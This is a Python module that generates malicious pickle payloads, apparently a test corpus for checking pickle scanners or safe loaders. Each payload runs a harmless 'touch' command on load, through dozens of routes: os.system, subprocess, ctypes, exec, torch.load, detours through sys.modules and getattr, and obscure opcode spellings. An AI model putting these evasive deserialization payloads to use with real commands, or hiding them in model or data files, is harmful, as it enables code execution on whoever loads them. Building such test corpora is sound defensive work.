"""Pickles that leave a mark on the disk when Python's own unpickler loads them: one for every way in that we know.

`attacks(mark, script)` gives them by name; each makes the file `mark`, or one whose name begins so. `script` is a
Python file called hubconf.py that does the same, for those that run a file.
"""

import marshal
import os
import pickle
import struct
from pathlib import Path

PROTO = b"\x80\x04"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, path: str) -> bytes:
    """A global; a dotted path reaches attributes of it."""
    return text(module) + text(path) + b"\x93"


def args(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def items(*values: bytes) -> bytes:
    return b"](" + b"".join(values) + b"e"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + args(*arguments) + b"R"


def new(kind: bytes, *arguments: bytes, keywords: bytes = b"") -> bytes:
    """NEWOBJ, or NEWOBJ_EX with keywords: keys and values in turn."""
    return kind + args(*arguments) + (b"}(" + keywords + b"u\x92" if keywords else b"\x81")


def module(path: str) -> bytes:
    return call(name("importlib", "import_module"), text(path))


def attribute(owner: bytes, path: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(path))


SYSTEM = name("os", "system")
_PARTIAL = name("functools", "partial")
ONE, NONE = b"K\x01", b"N"


def attacks(mark: Path, script: Path) -> dict[str, bytes]:
    """Whole pickles by what they do."""
    bodies = {
        **_commands(str(mark)),
        **_code(str(mark), str(script)),
        **_files(str(mark), str(script)),
        **_lookups(f"touch {mark}"),
        **_containers(f"touch {mark}"),
        **_opcodes(f"touch {mark}"),
    }
    inner = PROTO + call(SYSTEM, text(f"touch {mark}")) + b"."
    stream = call(name("io", "BytesIO"), raw(inner))
    bodies |= {
        "pickle.loads": call(name("pickle", "loads"), raw(inner)),
        "_pickle.loads": call(name("_pickle", "loads"), raw(inner)),
        "pickle._loads": call(name("pickle", "_loads"), raw(inner)),
        "pickle.load of a stream": call(name("pickle", "load"), stream),
        "Unpickler.load": call(name("pickle", "_Unpickler.load"), call(name("pickle", "_Unpickler"), stream)),
        "ForkingPickler.loads": call(name("multiprocessing.reduction", "ForkingPickler.loads"), raw(inner)),
        "numpy's runstring": call(name("numpy.testing", "runstring"), text(f"open({str(mark)!r}, 'w')"), b"}"),
        "torch's _load_from_bytes": call(name("torch.storage", "_load_from_bytes"), raw(inner)),
        "torch.load": call(new(_PARTIAL, name("torch", "load"), keywords=text("weights_only") + b"\x89"), stream),
        "torch.hub": call(
            new(_PARTIAL, name("torch.hub", "load"), keywords=text("source") + text("local")),
            text(str(script.parent)), text("entry"),
        ),
    }  # fmt: skip
    whole = {kind: PROTO + body + b"." for kind, body in bodies.items()}
    return whole | _protocols(f"touch {mark}")


def _commands(mark: str) -> dict[str, bytes]:
    """Other programs are started."""
    line, words = text(f"touch {mark}"), items(text("touch"), text(mark))
    in_bytes = raw(f"touch {mark}".encode())
    environment = name("os", "environ.copy") + b")R"
    browser = call(name("webbrowser", "GenericBrowser"), items(text("touch"), text("%s")))
    return {
        "os.system": call(SYSTEM, line),
        "posix.system": call(name("posix", "system"), line),
        "os.popen": call(name("os", "popen"), line),
        "os.posix_spawn": call(name("os", "posix_spawnp"), text("touch"), words, environment),
        "os.spawnlp": call(name("os", "spawnlp"), b"K\x00", text("touch"), text("touch"), text(mark)),
        "os.spawnvp": call(name("os", "spawnvp"), b"K\x00", text("touch"), words),
        "subprocess.run": call(name("subprocess", "run"), words),
        "subprocess.call": call(name("subprocess", "call"), words),
        "subprocess.check_call": call(name("subprocess", "check_call"), words),
        "subprocess.check_output": call(name("subprocess", "check_output"), words),
        "subprocess.Popen": call(name("subprocess", "Popen"), words),
        "subprocess.getoutput": call(name("subprocess", "getoutput"), line),
        "subprocess.getstatusoutput": call(name("subprocess", "getstatusoutput"), line),
        "pydoc.pipepager": call(name("pydoc", "pipepager"), text(""), line),
        "uuid's command": call(name("uuid", "_get_command_stdout"), text("touch"), text(mark)),
        "imaplib's stream": call(name("imaplib", "IMAP4_stream"), line),
        "webbrowser": call(name("webbrowser", "GenericBrowser.open"), browser, text(mark)),
        "ctypes": call(attribute(call(name("ctypes", "CDLL"), NONE), "system"), in_bytes),
        "ctypes with the lock": call(attribute(call(name("ctypes", "PyDLL"), NONE), "system"), in_bytes),
    }  # fmt: skip


def _code(mark: str, script: str) -> dict[str, bytes]:
    """Python code is run."""
    line = f"open({mark!r}, 'w').close()"
    code, run = text(line), text("exec")
    compiled = call(name("builtins", "compile"), code, text("x"), run)
    marshalled = call(name("marshal", "loads"), raw(marshal.dumps(compile(line, "x", "exec"))))
    console = call(name("code", "InteractiveInterpreter"))
    loader = call(name("importlib.machinery", "SourceFileLoader"), text("malice"), text(script))
    empty = call(name("types", "ModuleType"), text("malice"))
    clock = name("time", "perf_counter")
    return {
        "eval": call(name("builtins", "eval"), code),
        "exec": call(name("builtins", "exec"), code),
        "exec of compiled code": call(name("builtins", "exec"), compiled),
        "a function of marshalled code": call(call(name("types", "FunctionType"), marshalled, b"}")),
        "runpy.run_path": call(name("runpy", "run_path"), text(script)),
        "a module's loader": call(name("importlib.machinery", "SourceFileLoader.exec_module"), loader, empty),
        "timeit": call(name("timeit", "timeit"), code, text("pass"), clock, ONE),
        "cProfile": call(name("cProfile", "run"), code, text(mark + ".stats")),
        "bdb": call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), code),
        "an interpreter": call(name("code", "InteractiveInterpreter.runsource"), console, code, text("x"), run),
        "codecs' builtins": call(name("codecs", "builtins.exec"), code),
        "logging's configuration": call(
            name("logging.config", "dictConfig"),
            b"}(" + text("version") + ONE + text("formatters") + b"}" + text("x")
            + b"}(" + text("()") + text("os.mkdir") + text("path") + text(mark) + b"us" + b"u",
        ),
    }  # fmt: skip


def _files(mark: str, script: str) -> dict[str, bytes]:
    """A file is written by what may look harmless."""
    here, path = text(mark), call(name("pathlib", "Path"), text(mark))
    write = text("w")
    functions: dict[str, tuple[str, str, tuple[bytes, ...]]] = {
        **{f"{owner}.open": (owner, "open", (write,)) for owner in ("builtins", "io", "codecs", "gzip", "bz2", "lzma")},
        "tarfile.open": ("tarfile", "open", (write,)),
        "zipfile.ZipFile": ("zipfile", "ZipFile", (write,)),
        "shelve.open": ("shelve", "open", ()),
        "sqlite3": ("sqlite3", "connect", ()),
        "a log": ("logging", "FileHandler", ()),
        "a mailbox": ("mailbox", "Maildir", ()),
        "os.open": ("os", "open", (b"K" + bytes([os.O_CREAT]),)),
        "os.mkdir": ("os", "mkdir", ()),
        "os.makedirs": ("os", "makedirs", ()),
        "os.mkfifo": ("os", "mkfifo", ()),
        "numpy.savetxt": ("numpy", "savetxt", (items(ONE),)),
        "numpy.save": ("numpy", "save", (items(ONE),)),
        "numpy.memmap": ("numpy", "memmap", (text("u1"), text("w+"), b"K\x00", b"K\x01\x85")),
    }
    source = text(script)
    return {
        **{kind: call(name(owner, word), here, *rest) for kind, (owner, word, rest) in functions.items()},
        "os.symlink": call(name("os", "symlink"), text("nowhere"), here),
        "shutil.copy": call(name("shutil", "copy"), source, here),
        "shutil.copyfile": call(name("shutil", "copyfile"), source, here),
        "urlretrieve": call(name("urllib.request", "urlretrieve"), text(f"file://{script}"), here),
        "py_compile": call(name("py_compile", "compile"), source, here),
        "Path.touch": call(name("pathlib", "Path.touch"), path),
        "Path.write_text": call(name("pathlib", "Path.write_text"), path, text("x")),
        "Path.mkdir": call(name("pathlib", "Path.mkdir"), path),
        "methodcaller": call(call(name("operator", "methodcaller"), text("touch")), path),
    }  # fmt: skip


def _lookups(command: str) -> dict[str, bytes]:
    """os.system is reached by a detour."""
    line = text(command)
    modules = name("sys", "modules.get")
    chains = {
        "getattr of a module": attribute(module("os"), "system"),
        "__import__": attribute(call(name("builtins", "__import__"), text("os")), "system"),
        "sys.modules": attribute(call(modules, text("os")), "system"),
        "sys of collections": attribute(call(name("collections", "_sys.modules.get"), text("os")), "system"),
        "attrgetter": call(call(name("operator", "attrgetter"), text("system")), module("os")),
        "itemgetter": call(call(name("operator", "itemgetter"), text("system")), attribute(module("os"), "__dict__")),
        "a module's dict": call(name("os", "__dict__.__getitem__"), text("system")),
        "reduce": call(name("functools", "reduce"), name("builtins", "getattr"), items(text("system")), module("os")),
        "pydoc.locate": call(name("pydoc", "locate"), text("os.system")),
        "pkgutil": call(name("pkgutil", "resolve_name"), text("os:system")),
        "the path's own os": attribute(name("genericpath", "os"), "system"),
        "shutil's os": name("shutil", "os.system"),
        "partial": call(_PARTIAL, SYSTEM),
    }
    return {kind: call(chain, line) for kind, chain in chains.items()}


def _containers(command: str) -> dict[str, bytes]:
    """A harmless type runs through an iterator that is not harmless."""
    line = text(command)
    mapped = call(name("builtins", "map"), SYSTEM, items(line))
    empty = call(name("collections", "OrderedDict"))
    return {
        "list of a map": call(name("builtins", "list"), mapped),
        "set of a map": call(name("builtins", "set"), mapped),
        "frozenset of a map": call(name("builtins", "frozenset"), mapped),
        "dict of a map": call(name("builtins", "dict"), mapped),
        "Counter of a map": call(name("collections", "Counter"), mapped),
        "OrderedDict of a map": call(name("collections", "OrderedDict"), mapped),
        "torch-like tuple of a map": new(name("builtins", "tuple"), mapped),
        "bytes of a map": new(name("builtins", "bytes"), mapped),
        "starmap": call(
            name("collections", "deque"), call(name("itertools", "starmap"), SYSTEM, items(line + b"\x85"))
        ),
        "filter": call(name("builtins", "any"), call(name("builtins", "filter"), SYSTEM, items(line))),
        "defaultdict": call(
            name("collections", "defaultdict.__missing__"),
            call(name("collections", "defaultdict"), call(_PARTIAL, SYSTEM, line)), ONE,
        ),
        "weakref.finalize": call(name("weakref", "finalize"), empty, SYSTEM, line),
        "atexit": call(name("atexit", "register"), SYSTEM, line),
        "a thread": call(
            name("threading", "Thread.start"), call(name("threading", "Thread"), NONE, SYSTEM, NONE, line + b"\x85")
        ),
        "an executor": call(
            name("concurrent.futures", "ThreadPoolExecutor.submit"),
            call(name("concurrent.futures", "ThreadPoolExecutor")), SYSTEM, line,
        ),
        "copyreg's constructor": call(
            name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("subprocess", "Popen"),
            items(*map(text, command.split())),
        ),
        "copyreg's new object": call(name("copyreg", "__newobj__"), name("builtins", "tuple"), mapped),
    }  # fmt: skip


def _opcodes(command: str) -> dict[str, bytes]:
    """The same call, spelled with other opcodes."""
    line, word = text(command), command.encode()
    plain = b"cos\nsystem\n"
    state = b"}" + text("__setstate__") + SYSTEM + b"s"
    registered = b"0".join(
        call(name("copyreg", "add_extension"), text("os"), text(function), b"K" + bytes([code]))
        for function, code in (("system", 241), ("popen", 242))
    )
    return {
        "INST": b"(V" + word + b"\nios\nsystem\n",
        "OBJ": b"(" + plain + line + b"o",
        "GLOBAL": plain + line + b"\x85R",
        "STRING": plain + b"(S'" + word + b"'\ntR",
        "DUP": b"(" + line + b"20" + b"t" + b"q\x000" + plain + b"h\x00R",
        "PUT and GET": plain + b"p7\n0g7\n" + line + b"\x85R",
        "LONG_BINPUT": plain + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + line + b"\x85R",
        "MEMOIZE": plain + b"\x940h\x00" + line + b"\x85R",
        "a call inside a key": b"}" + call(SYSTEM, line) + NONE + b"s",
        "a call that is dropped": call(SYSTEM, line) + b"0N",
        "a call behind a mark": b"(" + call(SYSTEM, line) + b"1N",
        "an extension": registered + b"0\x82\xf1" + line + b"\x85R",
        "an extension of two bytes": registered + b"0\x83\xf1\x00" + line + b"\x85R",
        "an extension of four bytes": registered + b"0\x84\xf1\x00\x00\x00" + line + b"\x85R",
        "NEWOBJ_EX": call(new(_PARTIAL, SYSTEM, keywords=text("command") + line)),
        "BUILD on an OrderedDict": b"ccollections\nOrderedDict\n)R" + state + b"b" + line + b"b",
        "BUILD on a namespace": b"ctypes\nSimpleNamespace\n)R" + state + b"b" + line + b"b",
        "BUILD of a partial": b"cfunctools\npartial\n" + b"(cbuiltins\nprint\ntR"
        + args(SYSTEM, line + b"\x85", b"}", NONE) + b"b" + b")R",
    }  # fmt: skip


def _protocols(command: str) -> dict[str, bytes]:
    """As Python itself writes it, in every protocol."""

    class Run:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.system, (command,)

    return {f"protocol {version}": pickle.dumps({"w": Run()}, version) for version in range(6)}
